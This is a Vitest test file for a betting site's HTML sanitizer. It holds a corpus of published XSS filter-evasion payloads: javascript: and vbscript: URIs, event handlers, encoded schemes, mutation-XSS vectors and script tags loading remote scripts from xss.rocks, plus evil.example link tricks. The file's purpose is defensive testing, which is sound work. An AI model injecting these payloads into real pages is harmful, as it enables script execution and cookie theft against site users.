// @vitest-environment-options {"url": "https://royalbet.example/promotions"}
import { describe, expect, it } from 'vitest';
import { purify } from '@/shared/html/purify';

// The sanitizer of server HTML (promotions, content pages, popups): its edge cases and an XSS
// corpus. The payloads are well-known filter-evasion vectors (many from the OWASP XSS Filter
// Evasion Cheat Sheet); the checks are ours. The page is on the site's https origin (the
// environment options above), which same-site links are checked against.

const fragment = (html: string) => {
  const template = document.createElement('template');
  template.innerHTML = html;
  return template.content;
};

const URL_ATTRIBUTES = [
  'href',
  'src',
  'srcset',
  'action',
  'formaction',
  'xlink:href',
  'data',
  'background',
  'poster',
  'lowsrc',
  'dynsrc',
  'codebase',
  'cite',
  'ping',
];
const FORBIDDEN_ELEMENTS = [
  'script',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'base',
  'meta',
  'link',
  'style',
  'form',
  'input',
  'button',
  'textarea',
  'select',
  'svg',
  'math',
  'template',
  'noscript',
];

/** Every script execution vector that survives in `html`; empty when there is none. */
function executionVectors(html: string): string[] {
  const found: string[] = [];
  for (const element of fragment(html).querySelectorAll('*')) {
    const name = element.localName;
    if (FORBIDDEN_ELEMENTS.includes(name)) found.push(`<${name}>`);
    for (const attribute of element.attributes) {
      const attr = attribute.name.toLowerCase();
      if (attr.startsWith('on')) found.push(`${name}[${attr}]`);
      if (attr === 'style' || attr === 'srcdoc') found.push(`${name}[${attr}]`);
      // Browsers ignore ASCII whitespace and control characters in a scheme.
      // eslint-disable-next-line no-control-regex
      const value = attribute.value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
      if (
        URL_ATTRIBUTES.includes(attr) &&
        /(^|,)(javascript|vbscript|livescript|data:text\/html|data:(image\/svg|application))/.test(
          value,
        )
      )
        found.push(`${name}[${attr}=${attribute.value}]`);
      if (/^(javascript|vbscript):/.test(value)) found.push(`${name}[${attr}=${attribute.value}]`);
    }
  }
  return found;
}

// Payload list (facts): OWASP XSS Filter Evasion Cheat Sheet and other published vectors.
const XSS_CORPUS = [
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<a onmouseover=alert(document.cookie)>xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<SCRIPT SRC=//xss.rocks/.j>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<IMG SRC=\'vbscript:msgbox("XSS")\'>',
  "<svg/onload=alert('XSS')>",
  "<BODY ONLOAD=alert('XSS')>",
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<BR SIZE="&{alert(\'XSS\')}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
  '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
  '<XSS STYLE="behavior: url(xss.htc);">',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<A HREF="http://66.102.7.147/">XSS</A>',
  '<A HREF="javascript:document.location=\'http://www.google.com/\'">XSS</A>',
  '<a href="jAvAsCrIpT&colon;alert(1)">X</a>',
  '<a href="&#1;javascript:alert(1)">X</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">X</a>',
  '<a href="vbscript:msgbox(1)">X</a>',
  '<form><button formaction="javascript:alert(1)">X</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<object data="javascript:alert(1)">',
  '<isindex action="javascript:alert(1)" type=image>',
  '<img srcset="x 1x, javascript:alert(1) 2x">',
  '<a href="javascript&#58;alert(1)">X</a>',
  '<a href="java&#x0D;script:alert(1)">X</a>',
  '<template><script>alert(1)</script></template>',
  '<div id="x"><a href="#" onclick="alert(1)">X</a></div>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
];

describe('the sanitizer against an XSS corpus', () => {
  it.each(XSS_CORPUS.map((payload) => [payload]))('%s', (payload) => {
    const clean = purify(payload);
    expect(executionVectors(clean)).toEqual([]);
    // Stable: sanitizing the result again changes nothing (no mutation XSS on re-parsing).
    expect(purify(clean)).toBe(clean);
  });
});

describe('the sanitizer: links', () => {
  it('gives an <area> to another site target=_blank with rel, as it does an <a>', () => {
    const out = fragment(
      purify(
        '<map name="m"><area shape="rect" coords="0,0,1,1" href="https://evil.example/" target="_self"></map>' +
          '<a href="https://partner.example/" target="_top">x</a>',
      ),
    );
    const area = out.querySelector('area');
    expect(area?.getAttribute('target')).toBe('_blank');
    expect(area?.getAttribute('rel')).toBe('noopener noreferrer');
    const link = out.querySelector('a');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('keeps a same-site <area> or <a> in the tab without a target', () => {
    const out = fragment(
      purify('<map><area href="/pages/1" target="_blank"></map><a href="/spor" target="x">y</a>'),
    );
    expect(out.querySelector('area')?.hasAttribute('target')).toBe(false);
    expect(out.querySelector('a')?.hasAttribute('target')).toBe(false);
  });

  it('never leaves a target on an element that is not a link', () => {
    const out = fragment(purify('<div target="_blank"><img src="/a.png" target="_top"></div>'));
    expect(out.querySelector('[target]')).toBeNull();
  });

  it('writes checked addresses: //host tricks become same-site paths, plain http goes', () => {
    const out = fragment(
      purify(
        '<a id="a" href="/.//evil.example/x">a</a>' +
          '<a id="b" href="/./\\evil.example">b</a>' +
          '<area id="c" href="//evil.example/x">' +
          '<a id="d" href="http://evil.example/">d</a>' +
          '<a id="e" href="mailto:help@royalbet.example">e</a>',
      ),
    );
    const href = (id: string) =>
      out.querySelector(`[id="user-content-${id}"]`)?.getAttribute('href');
    expect(href('a')).toBe('/evil.example/x');
    expect(href('b')).toBe('/evil.example');
    expect(href('c')).toBe('https://evil.example/x');
    expect(href('d')).toBeNull();
    expect(href('e')).toBe('mailto:help@royalbet.example');
  });
});

describe('the sanitizer: named properties (SANITIZE_NAMED_PROPS)', () => {
  it('prefixes id and name so server HTML cannot clobber window or document names', () => {
    const out = fragment(
      purify('<img name="LiveChatWidget" src="/a.png"><p id="__lc">x</p><a id="location">y</a>'),
    );
    expect(out.querySelector('img')?.getAttribute('name')).toBe('user-content-LiveChatWidget');
    expect(out.querySelector('p')?.id).toBe('user-content-__lc');
    expect(out.querySelector('a')?.id).toBe('user-content-location');
  });

  it('keeps in-page links pointing at their prefixed targets', () => {
    const out = fragment(purify('<a href="#rules">Rules</a><h2 id="rules">Rules</h2>'));
    expect(out.querySelector('a')?.getAttribute('href')).toBe('#user-content-rules');
    expect(out.querySelector('h2')?.id).toBe('user-content-rules');
  });

  it('does not add the live chat name to the document when rendered', () => {
    const host = document.createElement('div');
    host.innerHTML = purify('<img name="LiveChatWidget" src="/a.png"><form name="x"></form>');
    document.body.append(host);
    expect((document as unknown as Record<string, unknown>).LiveChatWidget).toBeUndefined();
    host.remove();
  });
});
